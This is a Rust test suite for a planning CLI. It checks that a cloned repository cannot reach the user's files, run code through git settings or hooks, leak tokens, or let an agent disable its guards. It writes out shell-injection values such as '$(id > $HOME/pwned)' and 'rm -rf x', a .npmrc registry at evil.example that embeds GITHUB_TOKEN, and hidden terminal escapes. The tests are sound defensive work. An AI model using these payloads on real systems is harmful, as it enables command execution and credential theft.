//! A clone is not the user: what a repository brings is data, and nothing outside it is touched or shown.
#![cfg(unix)]

use std::os::unix::fs::symlink;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use serde_json::json;

use crate::kit::{TestContext, binary, outside};

const STATE: &str = "---\nmilestone: v1.0\nmilestone_name: $(id > $HOME/pwned)\ncurrent_phase: 1\nstatus: executing\n---\n\n\
    # Project State\n\n## Current Position\n\nPhase: 1 of 1 (Core)\nPlan: 1 of 1\nStatus: Executing\nLast activity: \
    2026-01-01\n\n### Decisions\n\nNone yet.\n\n## Session Continuity\n\nLast session: x\nStopped at: y\nResume file: None\n";

/// A clone whose planning folder has these documents, and a home with a file that a link may lead to.
fn clone_with(documents: &[(&str, &str)]) -> (TestContext, PathBuf) {
    let context = TestContext::new();
    context.write(".planning/config.json", "{}");
    context.write(
        ".planning/ROADMAP.md",
        "# Roadmap: Demo\n\n## Phases\n\n- [ ] **Phase 1: Core** - first\n\n## Phase Details\n\n### Phase 1: Core\n**Goal**: \
         Works\n",
    );
    context.write(".planning/phases/01-core/01-01-PLAN.md", "---\nphase: 01-core\nplan: 01\n---\n");
    for (path, text) in documents {
        context.write(path, text);
    }
    let decoy = context.home().join(".bashrc");
    std::fs::write(&decoy, STATE).unwrap();
    (context, decoy)
}

fn link(context: &TestContext, path: &str, to: impl AsRef<std::path::Path>) {
    let path = context.project().join(path);
    let _ = std::fs::remove_file(&path);
    let _ = std::fs::remove_dir_all(&path);
    symlink(to, path).unwrap();
}

/// Longer than any of these calls takes on a loaded machine. A call that waits for a pipe or reads a device waits for
/// ever.
const AT_ONCE: Duration = Duration::from_secs(60);

/// Every event of the hooks, as a host would send it.
fn fire_hooks(context: &TestContext) {
    for (event, tool) in [
        ("session-start", json!(null)),
        (
            "before-tool",
            json!({"tool_name": "Write", "tool_input": {"file_path": ".planning/STATE.md", "content": "x\n"}}),
        ),
        ("before-tool", json!({"tool_name": "Bash", "tool_input": {"command": "git commit -m x"}})),
        ("after-tool", json!({"tool_name": "Bash", "tool_input": {"command": "git pull"}, "tool_response": {}})),
        ("status-line", json!(null)),
    ] {
        let mut payload = json!({"session_id": "s", "cwd": context.project(), "source": "startup"});
        payload["context_window"] = json!({"used_percentage": 97, "remaining_percentage": 3});
        if let Some(tool) = tool.as_object() {
            payload.as_object_mut().unwrap().extend(tool.clone());
        }
        let begin = Instant::now();
        context.gsd_with(["hook", "standard", event], &[("GSD_RUNTIME", "claude")], &payload.to_string()).success();
        assert!(begin.elapsed() < AT_ONCE, "{event} waits");
    }
}

#[test]
fn a_document_that_leads_out_is_neither_read_nor_written() {
    let (context, decoy) = clone_with(&[(
        ".planning/config.json",
        r#"{"hooks":{"context_warning_threshold":100,"context_critical_threshold":100}}"#,
    )]);
    link(&context, ".planning/STATE.md", &decoy);
    for call in [
        &["state", "begin-phase", "--phase", "1", "--name", "A"][..],
        &["state", "add-decision", "--phase", "1", "--summary", "x"],
        &["state", "record-session", "--stopped-at", "x"],
        &["state", "json"],
    ] {
        let refused = context.gsd_with(call, &[], "").failure(1);
        assert!(refused.contains("STATE.md") && refused.contains("leads out"), "{call:?}: {refused}");
    }
    fire_hooks(&context);
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(std::fs::read_to_string(&decoy).unwrap(), STATE);
}

#[test]
fn no_file_is_created_at_the_target_of_a_link_in_a_clone() {
    let (context, _) = clone_with(&[]);
    let new = context.home().join(".newrc");
    for (path, call) in [
        (".planning/config.json", &["config-set", "mode", "yolo"][..]),
        (".planning/phases/01-core/01-01-SUMMARY.md", &["template", "fill", "summary", "--phase", "1", "--plan", "01"]),
        (".planning/phases/01-core/01-CONTEXT.md", &["scaffold", "context", "--phase", "1"]),
        (".planning/STATE.md", &["state", "rebuild"]),
        (".planning/state.json", &["state", "begin-phase", "--phase", "1", "--name", "A"]),
    ] {
        link(&context, path, &new);
        if path.ends_with("state.json") {
            context.write(".planning/STATE.md", STATE);
        }
        let ran = context.gsd_with(call, &[], "");
        assert!(!new.exists(), "{call:?} made {new:?}");
        if call[0] == "scaffold" {
            assert_eq!(ran.json()["created"], false);
        } else {
            let refused = ran.failure(1);
            assert!(refused.contains("leads out"), "{call:?}: {refused}");
        }
        std::fs::remove_file(context.project().join(path)).unwrap();
        if path.ends_with("config.json") {
            context.write(path, "{}");
        }
    }
}

#[test]
fn pipes_and_devices_are_refused_at_once() {
    for (path, to) in [("STATE.md", "/dev/zero"), ("config.json", "/dev/zero"), ("ROADMAP.md", "/dev/tty")] {
        let (context, _) = clone_with(&[(".planning/STATE.md", STATE)]);
        link(&context, &format!(".planning/{path}"), to);
        let begin = Instant::now();
        let _ = context.gsd(["state", "json"]);
        let _ = context.gsd(["init", "progress"]);
        assert!(begin.elapsed() < AT_ONCE, "{path}");
        fire_hooks(&context);
    }
    let (context, _) = clone_with(&[]);
    for path in [".planning/STATE.md", ".planning/config.json"] {
        let path = context.project().join(path);
        let _ = std::fs::remove_file(&path);
        assert!(context.command("mkfifo").arg(&path).status().unwrap().success());
    }
    let begin = Instant::now();
    let refused = context.gsd(["state", "json"]).failure(1);
    assert!(refused.contains("is not a file"), "{refused}");
    fire_hooks(&context);
    assert!(begin.elapsed() < AT_ONCE);
}

#[test]
fn a_file_too_large_for_a_document_is_refused_by_its_size() {
    let (context, _) = clone_with(&[]);
    std::fs::File::create(context.project().join(".planning/STATE.md")).unwrap().set_len(17 << 20).unwrap();
    let refused = context.gsd(["state", "json"]).failure(1);
    assert!(refused.contains("larger than 16 MB"), "{refused}");
    std::fs::File::create(context.project().join(".planning/config.json")).unwrap().set_len(2 << 20).unwrap();
    let refused = context.gsd(["config-get", "mode"]).failure(1);
    assert!(refused.contains("larger than 1 MB"), "{refused}");
}

#[cfg(target_os = "linux")]
#[test]
fn a_planning_folder_elsewhere_works_once_a_person_trusts_it() {
    let (context, _) = clone_with(&[(".planning/STATE.md", STATE)]);
    let elsewhere = context.home().join("plans");
    std::fs::rename(context.project().join(".planning"), &elsewhere).unwrap();
    link(&context, ".planning", &elsewhere);
    let refused = context.gsd(["state", "add-decision", "--phase", "1", "--summary", "x"]).failure(1);
    assert!(refused.contains("gsd-tools trust planning"), "{refused}");
    let payload = json!({"session_id": "s", "cwd": context.project(), "source": "startup"}).to_string();
    let start =
        || context.gsd_with(["hook", "standard", "session-start"], &[("GSD_RUNTIME", "claude")], &payload).success();
    assert_eq!(start(), "");
    assert!(context.gsd(["trust", "planning"]).failure(77).contains("needs a person"));

    let ran = context.at_a_terminal("trust planning", &[], "n");
    assert_eq!(ran.status.code(), Some(1));
    context.gsd(["state", "json"]).failure(1);
    let ran = context.at_a_terminal("trust planning", &[], "y");
    assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stdout));
    context.gsd(["state", "add-decision", "--phase", "1", "--summary", "kept elsewhere"]).success();
    assert!(std::fs::read_to_string(elsewhere.join("STATE.md")).unwrap().contains("kept elsewhere"));

    // The trust applies to that folder only, until a person revokes it.
    let other = context.home().join("other");
    std::fs::create_dir(&other).unwrap();
    link(&context, ".planning", &other);
    context.gsd(["state", "json"]).failure(1);
    link(&context, ".planning", &elsewhere);
    context.gsd(["state", "json"]).success();
    context.gsd(["trust", "planning", "--revoke"]).success();
    context.gsd(["state", "json"]).failure(1);
}

#[cfg(target_os = "linux")]
#[test]
fn a_folder_that_claims_to_be_a_worktree_does_not_get_the_approvals_of_that_repository() {
    let context = TestContext::new();
    let config = json!({"workflow": {"test_command": "touch ran"}}).to_string();
    context.write(".planning/config.json", &config);
    let git = |words: &[&str]| {
        let ran = context.command("git").args(words).output().unwrap();
        assert!(ran.status.success(), "{words:?}: {}", String::from_utf8_lossy(&ran.stderr));
    };
    git(&["init", "-q"]);
    git(&["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x"]);
    context.approve("test");
    let own = context.home().join("own");
    git(&["worktree", "add", "-q", own.to_str().unwrap()]);
    let unpacked = context.home().join("unpacked");
    for folder in [&own, &unpacked] {
        std::fs::create_dir_all(folder.join(".planning")).unwrap();
        std::fs::write(folder.join(".planning/config.json"), &config).unwrap();
    }
    std::fs::copy(own.join(".git"), unpacked.join(".git")).unwrap();
    for (folder, code) in [(&own, 0), (&unpacked, 77)] {
        let ran = context.command(binary()).current_dir(folder).args(["gate", "run", "test"]).output().unwrap();
        assert_eq!(ran.status.code(), Some(code), "{}", String::from_utf8_lossy(&ran.stdout));
        assert_eq!(folder.join("ran").exists(), code == 0);
    }
}

#[test]
fn a_link_within_the_project_is_a_document_like_any_other() {
    let (context, _) = clone_with(&[("docs/STATE.md", STATE)]);
    link(&context, ".planning/STATE.md", context.project().join("docs/STATE.md"));
    context.gsd(["state", "add-decision", "--phase", "1", "--summary", "kept in docs"]).success();
    assert!(context.read("docs/STATE.md").contains("kept in docs"));
    assert!(context.project().join(".planning/STATE.md").is_symlink());
}

/// Puts programs on the path that record where they run and their environment.
fn programs(context: &TestContext, scripts: &[(&str, &str)]) -> String {
    use std::os::unix::fs::PermissionsExt;
    let folder = context.home().join("bin");
    std::fs::create_dir_all(&folder).unwrap();
    for (name, script) in scripts {
        let script = format!("#!/bin/sh\n(pwd; env) > '{}/seen-{name}'\n{script}\n", context.home().display());
        std::fs::write(folder.join(name), script).unwrap();
        std::fs::set_permissions(folder.join(name), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    format!("{}:{}", folder.display(), std::env::var("PATH").unwrap())
}

#[test]
fn a_version_lookup_uses_no_settings_of_the_clone_and_sends_no_key() {
    let (context, _) = clone_with(&[(".npmrc", "registry=https://evil.example/${GITHUB_TOKEN}/\n")]);
    // npm reads the settings of the folder it runs in, and inserts variables into them.
    let npm = "if [ -f .npmrc ]; then sed -n \"s/^registry=//; s/[$]{GITHUB_TOKEN}/$GITHUB_TOKEN/; p\" .npmrc | head -1; \
               else echo https://packages.example/; fi";
    let curl = "cat >> \"$HOME/told\"; printf '{\"version\":\"0.0.1\"}\\n200'";
    let path = programs(&context, &[("npm", npm), ("curl", curl)]);
    let variables = [("PATH", path.as_str()), ("GITHUB_TOKEN", "ghp_secret"), ("AWS_SECRET_ACCESS_KEY", "aws_secret")];
    let published = [&variables[..], &[("GSD_PUBLISHED_AS", "gsd-tools")]].concat();
    context.gsd_with(["update-check"], &published, "").success();
    let answer = context.gsd_with(["package-legitimacy", "check", "--ecosystem", "npm", "left"], &variables, "").json();
    let why = answer[0]["unreachable"].as_str().unwrap();
    assert!(why.contains(".npmrc` sets `https://evil.example/${GITHUB_TOKEN}/"), "{why}");
    let told = std::fs::read_to_string(context.home().join("told")).unwrap();
    assert!(told.contains("https://packages.example/gsd-tools/latest") && !told.contains("evil"), "{told}");
    for program in ["npm", "curl"] {
        let seen = std::fs::read_to_string(context.home().join(format!("seen-{program}"))).unwrap();
        assert!(!seen.contains("_secret"), "{program} got a key: {seen}");
        assert_eq!(seen.lines().next(), context.home().canonicalize().unwrap().to_str(), "{program} runs in the clone");
    }
}

#[test]
fn no_code_of_a_clone_runs_when_a_program_prints_its_version() {
    let (context, _) = clone_with(&[(".planning/config.json", r#"{"graphify":{"enabled":true}}"#)]);
    let evil = format!("open({:?}, 'w').write('x')\n", context.home().join("pwned"));
    for module in ["re.py", "csv.py", "email.py"] {
        context.write(module, &evil);
    }
    let path = programs(&context, &[("graphify", "echo 1.0")]);
    context.gsd_with(["graphify", "build"], &[("PATH", &path)], "").success();
    assert!(context.home().join("seen-graphify").exists(), "it was not asked at all");
    assert!(!context.home().join("pwned").exists());
}

#[test]
fn git_queries_start_no_program_of_the_repository_and_do_not_change_its_index() {
    let (context, _) = clone_with(&[(".planning/STATE.md", STATE)]);
    let git = |words: &[&str]| assert!(context.command("git").args(words).status().unwrap().success(), "{words:?}");
    let watch = context.home().join("watch.sh");
    std::fs::write(&watch, format!("#!/bin/sh\ntouch '{}/pwned'\n", context.home().display())).unwrap();
    std::fs::set_permissions(&watch, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    git(&["init", "-q", "-b", "main"]);
    git(&["add", "."]);
    git(&["commit", "-qm", "chore: begin"]);
    for key in [
        "core.fsmonitor",
        "diff.external",
        "diff.notes.command",
        "diff.notes.textconv",
        "core.pager",
        "core.sshCommand",
    ] {
        git(&["config", key, watch.to_str().unwrap()]);
    }
    context.write(".gitattributes", "*.md diff=notes\n");
    context.write("notes.md", "changed\n");
    git(&["add", "notes.md"]);
    context.write("notes.md", "changed again\n");
    for hook in ["post-index-change", "reference-transaction", "fsmonitor-watchman"] {
        std::fs::copy(&watch, context.project().join(".git/hooks").join(hook)).unwrap();
    }
    let _ = std::fs::remove_file(context.home().join("pwned"));
    let index = || std::fs::read(context.project().join(".git/index")).unwrap();
    // The same bytes with another time: git would write the time into its index.
    std::fs::File::open(context.project().join(".planning/STATE.md"))
        .unwrap()
        .set_modified(std::time::SystemTime::now())
        .unwrap();
    let before = index();
    for call in [
        &["smart-entry", "--json"][..],
        &["init", "execute-phase", "1"],
        &["init", "progress"],
        &["check-commit"],
        &["verify", "codebase-drift"],
        &["verify", "schema-drift", "1"],
        &["plan", "check", "1"],
        &["refactor-check", "1"],
        &["state", "json"],
        &["worktree", "status"],
    ] {
        let _ = context.gsd_with(call, &[], "");
        assert!(!context.home().join("pwned").exists(), "{call:?}");
    }
    assert_eq!(index(), before);
}

#[test]
fn a_setting_cannot_make_a_branch_name_that_a_shell_interprets() {
    let evil = "$(id)/{phase};rm -rf x --upload-pack=x";
    let config = json!({"git": {"branching_strategy": "phase", "phase_branch_template": evil, "base_branch": "`id`"}});
    let (context, _) = clone_with(&[(".planning/config.json", &config.to_string())]);
    let answer = context.gsd(["init", "execute-phase", "1"]).json();
    assert_eq!(answer["branch_name"], "gsd/phase-01-core");
    assert!(!context.gsd(["git", "base-branch"]).success().contains("id"));
    assert!(context.gsd(["config-set", "git.base_branch", "a;b"]).failure(1).contains("a branch name of letters"));
    context.gsd(["config-set", "git.phase_branch_template", "work/{slug}"]).success();
    assert_eq!(context.gsd(["init", "execute-phase", "1"]).json()["branch_name"], "work/core");
}

#[test]
fn an_agent_cannot_read_files_of_the_user_and_no_call_writes_them() {
    let (context, decoy) = clone_with(&[(".planning/STATE.md", STATE)]);
    // The home of a test is in the folder for temporary files, which agents may read.
    let folder = outside();
    let key = folder.path().join("id_rsa");
    std::fs::write(&key, "KEY").unwrap();
    let key = key.to_str().unwrap();
    let agent = [("CLAUDECODE", "1")];
    let budget = |instructions: &str, prompt: &str| {
        let call = [
            "prompt-budget",
            "--budget",
            "1000",
            "--instructions-file",
            instructions,
            "--roadmap-file",
            ".planning/ROADMAP.md",
            "--plan-file",
            ".planning/phases/01-core/01-01-PLAN.md",
            "--output-prompt",
            prompt,
            "--output-metadata",
            "meta.json",
        ];
        context.gsd_with(call, &agent, "")
    };
    let refused = budget(key, "copy.md").failure(77);
    assert!(refused.contains("outside the project") && refused.contains("CLAUDECODE"), "{refused}");
    assert!(!context.project().join("copy.md").exists());
    let refused = budget(".planning/ROADMAP.md", decoy.to_str().unwrap()).failure(1);
    assert!(refused.contains("is outside the project"), "{refused}");
    budget(".planning/ROADMAP.md", "copy.md").success();
    link(&context, "out.md", &decoy);
    assert!(budget(".planning/ROADMAP.md", "out.md").failure(1).contains("leads out"));

    let decision = |file: &str, variables: &[(&str, &str)]| {
        context.gsd_with(["state", "add-decision", "--phase", "1", "--summary-file", file], variables, "")
    };
    decision(key, &agent).failure(77);
    assert!(!context.read(".planning/STATE.md").contains("KEY"));
    let temporary = context.temporary().join("notes.txt");
    std::fs::write(&temporary, "kept for a moment").unwrap();
    decision(temporary.to_str().unwrap(), &agent).success();
    if cfg!(target_os = "linux") {
        for (pipe, text) in [("/dev/stdin", "one"), ("/dev/fd/0", "two"), ("/proc/self/fd/0", "three")] {
            let call = ["state", "add-decision", "--phase", "1", "--summary-file", pipe];
            context.gsd_with(call, &agent, text).success();
            assert!(context.read(".planning/STATE.md").contains(text), "{pipe}");
        }
    }
    decision(key, &[]).success();
    assert_eq!(std::fs::read_to_string(&decoy).unwrap(), STATE);
}

#[test]
fn a_manifest_in_a_clone_moves_no_file_of_the_user() {
    let (context, decoy) = clone_with(&[]);
    let settings = context.home().join(".claude/settings.json");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    let own = "{\n  \"permissions\": { \"deny\": [\"Read(~/.ssh/**)\"] }\n}\n";
    std::fs::write(&settings, own).unwrap();
    let notes = context.home().join("notes.txt");
    std::fs::write(&notes, "mine\n").unwrap();
    // Written by another user's install of the same program, then changed as an attacker would.
    let other = TestContext::new();
    other.gsd(["install", "--claude", "--local"]).success();
    let manifest = other.read(".claude/gsd-file-manifest.json");
    let mut manifest: serde_json::Value = serde_json::from_str(&manifest).unwrap();
    let section = &mut manifest["installs"]["claude/local"];
    let digest = context.command("sha256sum").arg(&notes).output().unwrap().stdout;
    section["files"]["notes.txt"] = json!(String::from_utf8(digest).unwrap()[..64]);
    let mut ledger = section["shared"]["settings.local.json"].clone();
    assert!(ledger.is_object(), "{section:#}");
    ledger["created"] = json!(true);
    section["shared"]["x.json"] = ledger;
    context.write(".claude/gsd-file-manifest.json", &manifest.to_string());
    link(&context, ".claude/x.json", &settings);
    link(&context, ".claude/notes.txt", &notes);
    let told = context.gsd(["status", "--claude", "--local"]).success();
    assert!(told.contains("came with this repository"), "{told}");
    let told = context.gsd(["uninstall", "--claude", "--local"]).success();
    assert!(told.contains("came with this repository"), "{told}");
    let told = context.gsd(["install", "--claude", "--local"]).success();
    assert!(told.contains("came with this repository"), "{told}");
    context.gsd(["uninstall", "--claude", "--local"]).success();
    assert_eq!(std::fs::read_to_string(&settings).unwrap(), own);
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "mine\n");
    assert_eq!(std::fs::read_to_string(&decoy).unwrap(), STATE);
}

#[test]
fn an_install_in_a_project_follows_no_link_out_of_it() {
    let (context, _) = clone_with(&[]);
    let refused = |context: &TestContext| {
        let output = context.command(binary()).args(["install", "--claude", "--local"]).output().unwrap();
        assert_eq!(output.status.code(), Some(73), "{output:?}");
        String::from_utf8(output.stderr).unwrap()
    };
    let own = context.home().join(".claude");
    std::fs::create_dir_all(&own).unwrap();
    std::fs::write(own.join("settings.json"), "{}\n").unwrap();
    link(&context, ".claude", &own);
    assert!(refused(&context).contains("leads out"));
    std::fs::remove_file(context.project().join(".claude")).unwrap();
    std::fs::create_dir(context.project().join(".claude")).unwrap();
    link(&context, ".claude/settings.local.json", own.join("settings.json"));
    assert!(refused(&context).contains("leads out"));
    assert_eq!(std::fs::read_to_string(own.join("settings.json")).unwrap(), "{}\n");
    assert_eq!(std::fs::read_dir(&own).unwrap().count(), 1);
}

#[test]
fn an_install_committed_by_a_team_becomes_the_users_if_its_content_matches() {
    let (context, _) = clone_with(&[(".claude/settings.local.json", "{\n  \"model\": \"opus\"\n}\n")]);
    let git = |words: &[&str]| assert!(context.command("git").args(words).status().unwrap().success(), "{words:?}");
    context.gsd(["install", "--claude", "--local"]).success();
    // Another person's computer: it has the files, but not our notes.
    std::fs::remove_dir_all(context.home().join(".local/state/gsd-tools")).unwrap();
    git(&["init", "-q", "-b", "main"]);
    git(&["add", "-f", "."]);
    git(&["commit", "-qm", "chore: a team's install"]);
    assert!(context.gsd(["status", "--claude", "--local"]).success().contains("came with this repository"));
    let told = context.gsd(["install", "--claude", "--local"]).success();
    assert!(told.contains("came with this repository") && !told.contains("that version is now"), "{told}");
    let status = context.command("git").args(["status", "--porcelain"]).output().unwrap().stdout;
    assert!(String::from_utf8(status).unwrap().lines().all(|line| line.ends_with("gsd-file-manifest.json")));
    let again = context.gsd(["install", "--claude", "--local"]).success();
    assert!(again.contains("up to date") && !again.contains("came with"), "{again}");
    context.gsd(["uninstall", "--claude", "--local"]).success();
    let left: serde_json::Value = serde_json::from_str(&context.read(".claude/settings.local.json")).unwrap();
    assert_eq!(left["model"], "opus");
    assert!(!left.to_string().contains("gsd-tools"), "{left:#}");
    let files = walkdir::WalkDir::new(context.project().join(".claude")).into_iter().flatten();
    let left: Vec<_> = files.filter(|file| file.file_type().is_file()).map(|file| file.path().to_path_buf()).collect();
    assert_eq!(left, [context.project().join(".claude/settings.local.json")]);
}

#[test]
fn an_agent_cannot_disable_its_guards_and_a_script_can() {
    let (context, _) = clone_with(&[]);
    context.gsd(["install", "--claude", "--global"]).success();
    for agent in [("CLAUDECODE", "1"), ("GEMINI_CLI", "1"), ("CODEX_THREAD_ID", "x")] {
        for call in
            [&["hooks", "off"][..], &["hooks", "off", "--host", "claude"], &["uninstall", "--claude", "--global"]]
        {
            let refused = context.gsd_with(call, &[agent], "").failure(77);
            assert!(refused.contains("needs a person") && refused.contains(agent.0), "{refused}");
        }
        context.gsd_with(["uninstall", "--claude", "--global", "--dry-run"], &[agent], "").success();
        context.gsd_with(["hooks", "on"], &[agent], "").success();
    }
    assert!(context.home().join(".claude/gsd-core/bin/gsd-tools").exists());
    context.gsd(["hooks", "off"]).success();
    context.gsd(["uninstall", "--claude", "--global"]).success();
}

#[test]
fn an_agent_keeps_its_notes_in_a_home_outside_the_temporary_folder() {
    let (context, _) = clone_with(&[]);
    let home = outside();
    let agent = [("CLAUDECODE", "1"), ("HOME", home.path().to_str().unwrap())];
    for call in
        [&["auto-chain", "start"][..], &["auto-chain", "stop"], &["record-dispatch-isolation", "--isolation", "none"]]
    {
        context.gsd_with(call, &agent, "").success();
    }
    context.gsd_with(["dispatch-isolation", "--phase", "1"], &agent, "").success();
}

#[test]
fn an_agent_writes_no_file_that_other_programs_take_commands_from() {
    let (context, _) = clone_with(&[(".planning/STATE.md", STATE)]);
    let files = [".git/hooks/pre-commit", "build.sh", ".claude/settings.json", ".github/x.md", ".planning/w/.envrc"];
    for file in files {
        context.write(file, "#!/bin/sh\nexit 0\n");
        // The variables of some hosts could be emptied on the command line.
        for agent in [("CLAUDECODE", "1"), ("QWEN_CODE", "")] {
            let set = ["frontmatter", "set", file, "--field", "x", "--value", "$(touch pwned)"];
            let refused = context.gsd_with(set, &[agent], "").failure(77);
            assert!(refused.contains("is not a document") && refused.contains(agent.0), "{refused}");
            let merge = ["frontmatter", "merge", file, "--data", "{\"x\": 1}"];
            context.gsd_with(merge, &[agent], "").failure(77);
        }
        assert_eq!(context.read(file), "#!/bin/sh\nexit 0\n");
    }
    let agent = [("CLAUDECODE", "1")];
    context.gsd_with(["generate-claude-md", "--output", ".envrc"], &agent, "").failure(77);
    context.write(".planning/config.json", "{\"claude_md_path\": \".git/hooks/post-commit\"}");
    context.gsd_with(["generate-claude-md"], &agent, "").failure(77);
    assert!(!context.project().join(".envrc").exists() && !context.project().join(".git/hooks/post-commit").exists());
    context.write(".planning/config.json", "{}");
    context.gsd_with(["generate-claude-md"], &agent, "").success();
    assert!(context.project().join(".claude/CLAUDE.md").exists());
    let plan = ".planning/phases/01-core/01-01-PLAN.md";
    context.gsd_with(["frontmatter", "set", plan, "--field", "status", "--value", "superseded"], &agent, "").success();
    context.gsd(["frontmatter", "set", "build.sh", "--field", "x", "--value", "1"]).success();
}

#[test]
fn a_setting_puts_nothing_that_a_shell_interprets_into_a_path() {
    let (context, _) = clone_with(&[]);
    let config = json!({"project_code": "../../$(touch pwned)", "planning": {"sub_repos": ["$(id)", "a;id"]}});
    context.write(".planning/config.json", &config.to_string());
    let ran = context.gsd(["init", "plan-phase", "1"]);
    assert!(
        ran.stderr.contains("`project_code` is") && ran.stderr.contains("`planning.sub_repos` is"),
        "{}",
        ran.stderr
    );
    assert!(!ran.success().contains("touch"));
    let execution = context.gsd(["init", "execute-phase", "1"]).success();
    assert!(!execution.contains("$(id)") && !execution.contains("a;id"), "{execution}");
    context.gsd(["phase", "add", "More"]).success();
    context.gsd(["config-set", "project_code", "$(id)"]).failure(1);
    context.gsd(["config-set", "project_code", "CK"]).success();
}

#[cfg(target_os = "linux")]
#[test]
fn a_person_sees_the_whole_command_of_a_gate() {
    let (context, _) = clone_with(&[]);
    let config = json!({"workflow": {"test_command": "make test \u{1b}[8m||:;touch PWN;: \u{1b}[0m"}});
    context.write(".planning/config.json", &config.to_string());
    let ran = context.at_a_terminal("gate approve test", &[], "n");
    let text = String::from_utf8_lossy(&ran.stdout);
    assert!(text.contains("\\u{1b}[8m||:;touch PWN") && !text.contains("\u{1b}[8m"), "{text:?}");
}

#[cfg(target_os = "linux")]
#[test]
fn an_approval_does_not_apply_to_another_repository_at_the_same_path() {
    let (context, _) = clone_with(&[]);
    let config = json!({"workflow": {"test_command": "touch ran"}}).to_string();
    let lay = || {
        context.write(".planning/config.json", &config);
        assert!(context.command("git").args(["init", "-q"]).status().unwrap().success());
    };
    lay();
    context.approve("test");
    context.gsd(["gate", "run", "test"]).success();
    std::fs::remove_dir_all(context.project()).unwrap();
    std::fs::create_dir(context.project()).unwrap();
    lay();
    context.gsd(["gate", "run", "test"]).failure(77);
    assert!(!context.project().join("ran").exists());
}

#[cfg(target_os = "linux")]
#[test]
fn no_text_of_a_clone_moves_the_cursor_of_a_terminal() {
    let roadmap = "# Roadmap\n\n## Phases\n\n- [ ] **Phase 1: A\u{1b}[2J\u{202e}B** - x\n\n### Phase 1: A\u{1b}[2J\u{202e}B\n**Goal**: y\n";
    let (context, _) =
        clone_with(&[(".planning/ROADMAP.md", roadmap), (".planning/config.json", "{\"bad\\u001b[2Jkey\": 1}")]);
    let ran = context.at_a_terminal("roadmap get-phase 1 --raw", &[], "");
    let text = String::from_utf8_lossy(&ran.stdout);
    assert!(text.contains("\\u{1b}[2J") && !text.contains("\u{1b}[2J") && !text.contains('\u{202e}'), "{text:?}");
    let answer = context.gsd(["roadmap", "get-phase", "1", "--raw"]).success();
    assert!(answer.contains("\u{1b}[2J"), "a program gets the bytes as they are: {answer:?}");
    let told = context.command(binary()).args(["init", "progress"]).output().unwrap().stderr;
    let told = String::from_utf8(told).unwrap();
    assert!(told.contains("bad\\u{1b}[2Jkey"), "{told:?}");
}
